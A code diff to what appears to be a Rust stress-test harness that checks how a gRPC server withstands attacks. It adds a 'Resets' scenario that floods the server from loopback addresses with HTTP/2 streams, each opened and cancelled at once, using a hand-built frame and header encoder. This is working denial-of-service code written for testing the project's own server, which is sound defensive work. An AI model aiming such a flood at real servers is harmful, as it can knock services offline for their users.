@@ -44,6 +44,8 @@ pub(super) enum Attack {
     TornRequests,
     /// S15: frames of which the server warns.
     Noise,
+    /// S1, S8: calls without a token that are taken back at once, as fast as they can be sent.
+    Resets,
 }
 
 /// What goes on until it is dropped.
@@ -60,7 +62,7 @@ impl Drop for Held {
 }
 
 impl Attack {
-    pub(super) const ALL: [Self; 8] = [
+    pub(super) const ALL: [Self; 9] = [
         Self::UnreadAnswers,
         Self::Changes,
         Self::Lists,
@@ -69,6 +71,7 @@ impl Attack {
         Self::UnreadStreams,
         Self::TornRequests,
         Self::Noise,
+        Self::Resets,
     ];
 
     pub(super) fn name(self) -> &'static str {
@@ -81,6 +84,7 @@ impl Attack {
             Self::UnreadStreams => "S9 streams that nobody reads",
             Self::TornRequests => "S9 requests without an end",
             Self::Noise => "S15 frames that break the rules",
+            Self::Resets => "S1 calls that are taken back at once",
         }
     }
 
@@ -138,6 +142,11 @@ impl Attack {
             Self::Noise => {
                 for n in 0..10 {
                     held.tasks.push(noise(server.clone(), format!("127.0.3.{}", n + 1)));
+                }
+            }
+            Self::Resets => {
+                for n in 0..3 {
+                    held.tasks.push(reset(server.clone(), format!("127.0.6.{}", n + 1)));
                 }
             }
         }
@@ -275,4 +284,43 @@ fn noise(server: String, from: String) -> JoinHandle<()> {
             Clock::real().sleep(std::time::Duration::from_millis(20)).await;
         }
     })
+}
+
+fn reset(server: String, from: String) -> JoinHandle<()> {
+    lifecycle::spawn(async move {
+        while let Ok(mut stream) = connect(&server, &from).await {
+            let mut frames = HELLO.to_vec();
+            let mut calls = (1_u32..).step_by(2);
+            // Until the server has had enough.
+            while stream.write_all(&frames).await.is_ok() {
+                frames.clear();
+                for call in calls.by_ref().take(200) {
+                    frames.extend(frame(1, 4, call, &headers()));
+                    frames.extend(frame(3, 0, call, &[0, 0, 0, 8]));
+                }
+            }
+        }
+    })
+}
+
+/// Of HTTP/2 (RFC 9113, 4.1).
+fn frame(kind: u8, flags: u8, call: u32, payload: &[u8]) -> Vec<u8> {
+    let length = (payload.len() as u32).to_be_bytes();
+    [&length[1..], &[kind, flags], &call.to_be_bytes(), payload].concat()
+}
+
+/// Of a call without a token: literals that nobody has to remember (RFC 7541, 6.2.2).
+fn headers() -> Vec<u8> {
+    let fields = [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":path", LIST),
+        (":authority", "x"),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+    ];
+    let literal = |(name, value): (&str, &str)| {
+        [&[0, name.len() as u8], name.as_bytes(), &[value.len() as u8], value.as_bytes()].concat()
+    };
+    fields.into_iter().flat_map(literal).collect()
 }
